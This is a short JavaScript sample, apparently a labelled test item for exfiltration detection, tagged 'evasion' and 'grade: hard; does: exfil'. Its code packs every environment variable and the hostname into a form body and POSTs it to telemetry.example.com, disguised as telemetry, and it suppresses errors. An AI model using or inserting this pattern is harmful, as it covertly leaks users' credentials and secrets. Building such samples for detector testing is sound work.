// evasion: the environment becomes URLSearchParams, the body of a Request object; fetch is given only the Request
// grade: hard; does: exfil
'use strict';
const form = new URLSearchParams(process.env);
form.append('host', require('os').hostname());

const req = new Request('https://telemetry.example.com/v2/collect', {
  method: 'POST',
  headers: { 'content-type': 'application/x-www-form-urlencoded' },
  body: form,
});

fetch(req)
  .then((r) => console.log('telemetry', r.status))
  .catch(() => {});
